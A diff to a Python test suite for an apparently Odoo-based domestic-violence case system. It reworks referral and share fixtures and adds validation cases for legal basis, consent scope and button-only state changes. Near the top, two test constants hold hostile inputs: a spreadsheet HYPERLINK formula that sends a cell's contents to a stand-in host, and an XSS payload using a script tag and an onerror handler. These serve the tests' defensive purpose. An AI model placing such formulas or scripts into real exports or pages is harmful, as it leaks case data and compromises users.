@@ -22,6 +22,8 @@ from zoneinfo import ZoneInfo
 from clients import MAIL
 from rpc import Client, RpcError
 
+# The guard's German message (dv.guard.mixin) for a state written directly.
+STATE_BY_BUTTONS = "Der Status ändert sich nur über die Schaltflächen des Formulars"
 FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
 SCRIPT = '<script>alert("dv")</script><img src="x" onerror="alert(1)">'
 
@@ -50,6 +52,7 @@ class Fixtures:
         self.office = setup["agencies"]["office"]
         self.police = setup["agencies"]["police"]
         self.counselling = setup["agencies"]["counselling"]
+        self.neighbour = setup["agencies"]["neighbour"]
         self.company = setup["companies"]["a"]
         now = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
         self.now = now
@@ -75,7 +78,6 @@ class Fixtures:
 
     def inbound(self, **values):
         vals = {
-            "direction": "inbound",
             "source_type": "police",
             "from_agency_id": self.police,
             "to_agency_id": self.office,
@@ -89,16 +91,17 @@ class Fixtures:
         vals.update(values)
         return vals
 
-    def outbound(self, **values):
+    def share(self, **values):
+        """A share of the case in progress with the counselling centre, as
+        its lead agency's case worker sends it (the addon sets the sender,
+        company and state)."""
         vals = {
-            "direction": "outbound",
             "kind": "share",
             "case_id": self.f["case_progress"],
-            "from_agency_id": self.office,
             "to_agency_id": self.counselling,
-            "company_id": self.company,
             "legal_basis": "statute",
             "legal_norm": "§ 8a SGB VIII",
+            "reason": "Beratung",
         }
         vals.update(values)
         return vals
@@ -652,22 +655,36 @@ ROWS = (
         german="Datum, an dem die Einwilligung",
     ),
     Row(
-        "outbound_without_legal_basis",
+        "share_without_legal_basis",
         "sharing a case without a legal basis",
         "caseworker",
-        create(
-            "dv.referral", lambda f: f.outbound(legal_basis=False, legal_norm=False)
-        ),
+        create("dv.share", lambda f: f.share(legal_basis=False, legal_norm=False)),
         error="ValidationError",
         german="braucht eine Rechtsgrundlage",
     ),
     Row(
-        "outbound_to_own_lead",
-        "referring a case to its own lead agency",
+        "share_to_own_lead",
+        "sharing a case with its own lead agency",
         "caseworker",
-        create("dv.referral", lambda f: f.outbound(to_agency_id=f.office)),
+        create("dv.share", lambda f: f.share(to_agency_id=f.office)),
         error="ValidationError",
         german="eigene federführende Einrichtung",
+    ),
+    Row(
+        "share_consent_of_other_agency",
+        "a share on consent to another agency than the one consented to",
+        "caseworker",
+        create(
+            "dv.share",
+            lambda f: f.share(
+                to_agency_id=f.neighbour,
+                legal_basis="consent",
+                legal_norm=False,
+                consent_id=f.f["consent"],
+            ),
+        ),
+        error="ValidationError",
+        german="Einwilligung deckt",
     ),
     # State transitions out of order
     Row(
@@ -694,7 +711,7 @@ ROWS = (
         "caseworker",
         write("dv.case", "case_new", lambda f: {"state": "closed"}),
         error="ValidationError",
-        german="hat einen Grund und ein Datum",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_case", "case_new"),
     ),
     Row(
@@ -703,7 +720,7 @@ ROWS = (
         "caseworker",
         write("dv.case", "case_progress", lambda f: {"state": "new"}),
         error="ValidationError",
-        german="kann nicht vom Status",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_case", "case_progress"),
     ),
     Row(
@@ -712,17 +729,43 @@ ROWS = (
         "caseworker",
         write("dv.referral", "referral_declined", lambda f: {"state": "received"}),
         error="ValidationError",
-        german="kann nicht vom Status",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_referral", "referral_declined"),
     ),
     Row(
-        "inbound_accepted",
-        "an outbound state on a police referral",
+        "referral_state_written",
+        "marking a police referral contacted by writing its state",
         "caseworker",
-        write("dv.referral", "referral_open", lambda f: {"state": "accepted"}),
+        write("dv.referral", "referral_open", lambda f: {"state": "contacted"}),
         error="ValidationError",
-        german="kann nicht vom Status",
+        german=STATE_BY_BUTTONS,
         watch=watch("dv_referral", "referral_open"),
+    ),
+    Row(
+        "share_state_written",
+        "the sender accepting its own share by writing its state",
+        "caseworker",
+        write("dv.share", "share", lambda f: {"state": "accepted"}),
+        error="ValidationError",
+        german=STATE_BY_BUTTONS,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_created_accepted",
+        "a share created as already accepted",
+        "caseworker",
+        create("dv.share", lambda f: f.share(state="accepted")),
+        error="ValidationError",
+        german=STATE_BY_BUTTONS,
+    ),
+    Row(
+        "share_accepted_by_sender",
+        "the sender accepting its own share with the receiver's button",
+        "caseworker",
+        method("dv.share", "share", "action_accept"),
+        error="AccessError",
+        german="beantworten",
+        watch=watch("dv_share", "share"),
     ),
     Row(
         "contact_declined_referral",
@@ -748,22 +791,6 @@ ROWS = (
         ),
         error="ValidationError",
         german="keine weiteren Kontaktversuche",
-    ),
-    Row(
-        "attempt_on_outbound",
-        "contact attempt on a referral to another agency",
-        "caseworker",
-        create(
-            "dv.contact.attempt",
-            lambda f: {
-                "referral_id": f.f["outbound"],
-                "channel_id": f.setup["channel_phone"],
-                "outcome": "reached",
-                "attempted_at": f.dt(f.now),
-            },
-        ),
-        error="ValidationError",
-        german="eingehenden Meldungen",
     ),
     Row(
         "unreachable_without_attempts",
